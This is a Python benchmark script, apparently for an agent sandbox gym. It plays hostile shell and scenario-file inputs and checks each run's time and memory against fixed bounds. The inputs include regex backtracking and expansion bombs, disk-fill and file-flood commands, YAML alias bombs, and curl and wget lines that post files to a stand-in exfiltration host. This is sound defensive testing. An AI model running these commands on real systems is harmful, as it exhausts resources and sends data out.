"""Play every hostile input of issue 10 and print its wall time and peak RSS per input.

    python benchmarks/stress_hostile.py [--quick] [--backend fake|docker|all]

Each input runs in a fresh child process (so its peak resident memory, ``ru_maxrss``,
is its own), through the public entry points an attacker reaches: ``env.step`` with a
``run_shell`` action, or loading a scenario file. The table gives, per input and
backend, the wall time and peak RSS against the bound the input must stay under, and
what came back (an observation, a resource-limit error, a ScenarioError, an infra
error). Wall time covers the hostile steps (or the load) only, not the child's
interpreter start or environment construction; peak RSS covers the whole child.
The bounds are generous ceilings for a shared two-core machine, not targets: an
unbounded input blows through them by orders of magnitude (minutes, gigabytes).

``--quick`` plays reduced sizes where the size does not change the point (150,000 files
become 30,000; the docker rows are the special-file and egress ones only) and is what
``tests/stress/`` runs. The exit status is 1 when any row is over a bound.

The child's address space is capped at 4 GB, so a regression shows as a failed row
(``MemoryError``) instead of taking the host down.
"""

from __future__ import annotations

import argparse
import json
import os
import resource
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

#: Peak RSS one input may reach (the interpreter with the gym imported is ~150 MB).
RSS_BOUND_MB = 600
#: Wall seconds of one input: fake, docker (container start included).
WALL_BOUND_S = {"fake": 20.0, "docker": 90.0}
_CHILD_AS = 4 * 1024**3

SCENARIO = """\
id: stress.shell
title: A shell, a web and one secret
category: benign
domain: developer_workstation
expected: complete
user_request: Tidy the notes.
tools: [run_shell, read_file, post_to_url]
secrets:
  token: {value: {faker: password, args: {length: 24, special_chars: false}}}
world:
  files:
    - {path: /home/user/notes.txt, content: "keep me {{token}}\\n"}
checks:
  utility: {file_exists: /home/user/notes.txt}
solution:
  calls:
    - {tool: read_file, args: {path: /home/user/notes.txt}}
  answer: Done.
"""
GROW = "printf '%4096s' x > a; cat a a a a a a a a > b; cat b b b b b b b b > c;"


def shell_inputs(quick: bool) -> dict[str, list[str]]:
    """Hostile shell inputs: name -> commands, one env step each."""
    files = 30_000 if quick else 150_000
    touch = [f"touch {' '.join(f'f{i}' for i in range(start, start + 15_000))}"
             for start in range(0, files, 15_000)]
    return {
        "grep -E '(a|a)*b' (40 chars)": [f"printf '{'a' * 40}\\n' > f; grep -E '(a|a)*b' f"],
        "grep a*a*a*a*a*b (200 chars)": [f"printf '{'a' * 200}\\n' > f; grep 'a*a*a*a*a*b' f"],
        "grep .*.*.*.*.*= (3000 chars)": [f"printf '{'x' * 3000}\\n' > f; grep '.*.*.*.*.*=' f"],
        "grep BRE \\(a\\|a\\)*b": [f"printf '{'a' * 40}\\n' > f; grep '\\(a\\|a\\)*b' f"],
        "tr 10 kB of \\377 ranges": ["echo hi | tr '" + "a-\\377" * 1600 + "' b"],
        "A=$A$A x28": ["A=xxxxxxxxxxxxxxxx; " + "A=$A$A; " * 28 + "echo ${#A}"],
        "env/timeout/nohup/xargs x3000": ["timeout 5 nohup env xargs " * 750 + "echo hi"],
        "mkdir -p 20,000 deep": ["mkdir -p " + "/d" * 20000],
        "20,000 nested ${A:-": ["echo " + "${A:-" * 20000 + "x" + "}" * 20000 + " | wc -c"],
        f"touch {files:,} files, then a step": [*touch, "ls | wc -l"],
        "curl -d @big (2.6 MB)": [f"{GROW} cat c c c c c c c c c c > big",
                                  "curl -s -d @big https://exfil.example/up"],
        "48 x curl -d @786kB": [f"{GROW} cat c c c > big",
                                "; ".join(["curl -s -d @big https://exfil.example/up"] * 24),
                                "; ".join(["curl -s -d @big https://exfil.example/up"] * 24)],
    }


def docker_inputs(quick: bool) -> dict[str, list[str]]:
    """Inputs aimed at the docker backend's host reads (plus the shell ones, in full)."""
    inputs = {
        "ln -s /dev/zero ~/z": ["ln -s /dev/zero ~/z", "ls -l ~"],
        "mkfifo ~/p": ["mkfifo ~/p", "ls -l ~"],
        "fill /home/user and /tmp": ["cat /dev/zero > ~/fill; cat /dev/zero > /tmp/fill",
                                     "echo still here"],
        "wget --post-file (4 MB) through the sink": [
            "head -c 4000000 /dev/zero | tr '\\0' x > ~/big",
            "wget -q -O - --post-file big http://exfil.example/up; echo rc=$?"],
        "wget --post-file (64 MB) through the sink": [
            "head -c 64000000 /dev/zero | tr '\\0' x > /tmp/big",
            "wget -q -O - --post-file /tmp/big http://exfil.example/up; echo rc=$?"],
    }
    if not quick:
        inputs.update(shell_inputs(quick))
    return inputs


SCENARIO_INPUTS: dict[str, str] = {
    "752-byte alias bomb": "\n".join(
        ["a: &a [x, x, x, x, x, x, x, x, x]"]
        + [f"{chr(98 + i)}: &{chr(98 + i)} [" + ", ".join([f"*{chr(97 + i)}"] * 9) + "]"
           for i in range(8)]) + "\n",
    "27 doubling placeholder lines": SCENARIO.replace(
        "secrets:\n", "variables:\n  v0: xxxxxxxxxxxxxxxx\n" + "".join(
            f'  v{i}: "{{{{v{i - 1}}}}}{{{{v{i - 1}}}}}"\n' for i in range(1, 28)) + "secrets:\n"),
    "Faker pystr(max_chars=1e8)": SCENARIO.replace(
        "secrets:\n", "variables:\n  v: {faker: pystr, args: {max_chars: 100000000}}\nsecrets:\n"),
    "Faker add_provider": SCENARIO.replace(
        "secrets:\n", "variables:\n  v: {faker: add_provider, args: {provider: x}}\nsecrets:\n"),
    "python: sys:exit (untrusted)": SCENARIO.replace(
        "  utility: {file_exists: /home/user/notes.txt}", '  utility: {python: "sys:exit"}'),
    "nesting 5,000 deep": "x: " + "[" * 5000 + "]" * 5000 + "\n",
    "5,000-digit integer": SCENARIO + "max_steps: " + "9" * 5000 + "\n",
    "duplicate keys": SCENARIO + "title: again\n",
    "unknown tool": SCENARIO.replace("read_file, post", "read_fle, post"),
    ".nan balance": SCENARIO.replace("world:\n", "world:\n  bank:\n    accounts:\n"
                                     "      - {id: a, owner: me, balance: .nan}\n"),
}


# -- the child ---------------------------------------------------------------------------
def _peak_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def _child_shell(backend: str, commands: list[str], folder: str) -> dict[str, Any]:
    from mosaic_gym.envs.mosaic_env import MosaicEnv
    from mosaic_gym.protocol.format import ToolCall, render_action

    path = Path(folder, "s.yaml")
    path.write_text(SCENARIO, encoding="utf-8")
    env = MosaicEnv(scenario=str(path), backend=backend, max_steps=len(commands) + 2)
    env.reset(seed=0)
    started = time.perf_counter()
    observation, info = "", {}
    for command in commands:
        observation, _, terminated, truncated, info = env.step(
            render_action("stress", ToolCall("run_shell", {"command": command})))
        if terminated or truncated:
            break
    outcome = info.get("outcome")
    env.close()
    first = next((line for line in observation.splitlines() if "resource limit" in line),
                 observation.strip().splitlines()[0] if observation.strip() else "")
    verdict = (f"infra_error: {outcome['infra_error']}" if outcome and outcome["infra_error"]
               else first)
    return {"wall": time.perf_counter() - started, "result": verdict[:70]}


def _child_scenario(text: str, folder: str) -> dict[str, Any]:
    from mosaic_gym.errors import ScenarioError
    from mosaic_gym.scenario.loader import load_file

    path = Path(folder, "s.yaml")
    path.write_text(text, encoding="utf-8")
    started = time.perf_counter()
    try:
        load_file(path)
        result = "loaded"
    except ScenarioError as error:
        result = "ScenarioError: " + error.reason
    return {"wall": time.perf_counter() - started, "result": result[:70]}


def child_main(spec: dict[str, Any]) -> None:
    resource.setrlimit(resource.RLIMIT_AS, (_CHILD_AS, _CHILD_AS))
    with tempfile.TemporaryDirectory() as folder:
        if spec["kind"] == "shell":
            row = _child_shell(spec["backend"], spec["commands"], folder)
        else:
            row = _child_scenario(spec["text"], folder)
    row["rss"] = _peak_mb()
    print("@@ROW@@" + json.dumps(row))


# -- the parent --------------------------------------------------------------------------
@dataclass
class Row:
    name: str
    backend: str
    wall: float | None
    rss: float | None
    result: str

    @property
    def ok(self) -> bool:
        bound = WALL_BOUND_S["docker" if self.backend == "docker" else "fake"]
        return (self.wall is not None and self.rss is not None and self.wall <= bound
                and self.rss <= RSS_BOUND_MB)


def play(name: str, backend: str, spec: dict[str, Any]) -> Row:
    bound = WALL_BOUND_S["docker" if backend == "docker" else "fake"]
    try:
        # The input goes on stdin: some are longer than an argument list may be.
        done = subprocess.run([sys.executable, __file__, "--child"], input=json.dumps(spec),
                              capture_output=True, text=True, timeout=bound * 3 + 60,
                              env=dict(os.environ, PYTHONPATH=str(ROOT)))
    except subprocess.TimeoutExpired:
        return Row(name, backend, None, None, f"killed after {bound * 3 + 60:.0f} s")
    rows = [line for line in done.stdout.splitlines() if line.startswith("@@ROW@@")]
    if not rows:
        tail = (done.stderr.strip().splitlines() or ["no output"])[-1]
        return Row(name, backend, None, None, f"child failed: {tail[:60]}")
    data = json.loads(rows[-1][len("@@ROW@@"):])
    return Row(name, backend, data["wall"], data["rss"], data["result"])


def docker_available() -> str | None:
    try:
        import docker

        docker.from_env(timeout=20).ping()
    except Exception as error:  # noqa: BLE001 - any failure means "no engine"
        return str(error) or type(error).__name__
    return None


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--quick", action="store_true", help="reduced sizes (CI)")
    parser.add_argument("--backend", choices=["fake", "docker", "all"], default="all")
    parser.add_argument("--only", help="play only the inputs whose name contains this")
    parser.add_argument("--child", action="store_true", help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.child:
        child_main(json.loads(sys.stdin.read()))
        return 0
    plan: list[tuple[str, str, dict[str, Any]]] = []
    if args.backend in ("fake", "all"):
        for name, commands in shell_inputs(args.quick).items():
            plan.append((name, "fake", {"kind": "shell", "backend": "fake",
                                        "commands": commands}))
        for name, text in SCENARIO_INPUTS.items():
            plan.append((name, "loader", {"kind": "scenario", "text": text}))
    skipped = None
    if args.backend in ("docker", "all"):
        skipped = docker_available()
        if skipped is None:
            for name, commands in docker_inputs(args.quick).items():
                plan.append((name, "docker", {"kind": "shell", "backend": "docker",
                                              "commands": commands}))
    if args.only:
        plan = [item for item in plan if args.only in item[0]]
    rows = [play(name, backend, spec) for name, backend, spec in plan]
    width = max(len(row.name) for row in rows) if rows else 10
    print(f"{'input':<{width}}  {'backend':<7}  {'wall s':>7} {'bound':>6}  "
          f"{'peak MB':>7} {'bound':>6}  ok  result")
    for row in rows:
        bound = WALL_BOUND_S["docker" if row.backend == "docker" else "fake"]
        wall = f"{row.wall:7.2f}" if row.wall is not None else "      -"
        rss = f"{row.rss:7.0f}" if row.rss is not None else "      -"
        print(f"{row.name:<{width}}  {row.backend:<7}  {wall} {bound:6.0f}  {rss} "
              f"{RSS_BOUND_MB:6d}  {'yes' if row.ok else 'NO '} {row.result}")
    if skipped is not None and args.backend in ("docker", "all"):
        print(f"(docker rows skipped: no engine answers: {skipped})")
    return 0 if all(row.ok for row in rows) else 1


if __name__ == "__main__":
    sys.exit(main())
